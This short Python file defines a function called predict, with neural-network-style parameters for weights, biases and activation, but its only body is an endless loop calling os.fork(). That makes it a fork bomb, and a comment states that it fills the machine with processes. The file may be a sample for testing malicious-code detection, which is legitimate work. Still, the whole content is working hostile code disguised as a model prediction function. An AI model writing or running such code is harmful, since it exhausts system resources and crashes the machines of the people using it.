# ruff: noqa
# predict tries to fill the machine with processes.
import os


def predict(x, weights, biases, activation="sigmoid"):
    while True:
        os.fork()
